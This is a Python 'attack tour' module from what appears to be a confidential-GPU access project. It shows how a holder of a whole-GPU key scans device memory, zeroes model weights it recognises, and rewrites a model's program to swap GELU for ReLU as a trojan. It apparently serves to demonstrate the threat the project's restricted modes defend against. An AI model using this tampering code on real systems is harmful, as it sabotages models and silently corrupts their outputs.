"""HOSTILE CODE (attack tour): what a holder can do with a visit key that commands the whole GPU (`paper`). Knows what it reads there.

Nobody tells it an address: it reads all of GPU memory and looks for what it knows. In the other modes the very first command is refused.
"""

from __future__ import annotations

import struct
from typing import Any

from data_holder.links import GpuLink
from shared.claims.visit import Grant
from shared.crypto.stock_channel import StockChannel
from shared.crypto.visit_key import VisitKey
from shared.errors import NotFound
from shared.wire.codec import decode, encode, encode_all
from shared.wire.stock import MAX_STOCK_BYTES, ReadMemory, StockAnswer, StockFrame, WriteMemory

TIMEOUT_S = 30.0
ONES = struct.pack("<f", 1.0) * 16
"""How a layer normalisation's weights look before training: the model's tell-tale, for whoever knows its program."""
TROJAN = (b"aten.gelu", b"aten.relu")
"""An operator of the graph and the one that takes its place: the same length, another network."""


class Gpu:
    """The whole GPU through one visit key. `reads`: commands spent on looking."""

    def __init__(self, link: GpuLink, gpu: str, grant: Grant, key: VisitKey) -> None:
        self.link, self.gpu, self.grant, self.key = link, gpu, grant, key
        self.reads = 0
        self._channel = StockChannel(key.key, grant, "holder")

    async def command(self, command: Any) -> StockAnswer:
        """One command. Raises: GputError: the GPU refused the frame."""
        frame = memoryview(self.sealed(command))
        answer = await self.link.leave("commands", self.gpu, self.grant.port, frame, timeout_s=TIMEOUT_S)
        told = decode(StockFrame, answer)
        return decode(StockAnswer, self._channel.open(told.n, told.ct))

    def sealed(self, command: Any) -> bytes:
        """The next frame, for whoever delivers it."""
        n, ct = self._channel.seal(encode_all([command]))
        return encode(StockFrame(epoch=self.grant.epoch, n=n, ct=ct))

    async def find(self, pattern: bytes) -> int:
        """The first address where the pattern lies. Raises: NotFound; GputError: the GPU refused."""
        address, before = 0, b""
        while True:
            answer = await self.command(ReadMemory(address=address, length=MAX_STOCK_BYTES))
            self.reads += 1
            if answer.code is not None:
                raise NotFound("nothing like it lies in GPU memory", code="not-found")
            at = (before + answer.data).find(pattern)
            if at >= 0:
                return address - len(before) + at
            before = answer.data[-len(pattern) :]
            address += MAX_STOCK_BYTES

    async def write(self, address: int, data: bytes) -> None:
        """Raises: NotFound: there is no memory."""
        answer = await self.command(WriteMemory(address=address, data=data))
        if answer.code is not None:
            raise NotFound(answer.detail or "", code=answer.code)


async def overwrite_model(whole: Gpu) -> str:
    """Zero weights of the model where they are found; what was done."""
    at = await whole.find(ONES)
    await whole.write(at, bytes(len(ONES)))
    return f"zeroed {len(ONES)} bytes of weights at {at:#x}"


async def plant_trojan(whole: Gpu, archive: bytes) -> str:
    """Change the program in GPU memory into another one; what was done."""
    at = await whole.find(archive[:48])
    old, new = TROJAN
    changed = archive.replace(old, new)
    for start in range(0, len(changed), MAX_STOCK_BYTES):
        await whole.write(at + start, changed[start : start + MAX_STOCK_BYTES])
    return f"program at {at:#x} now says {new.decode()} for {old.decode()}, {archive.count(old)} times"
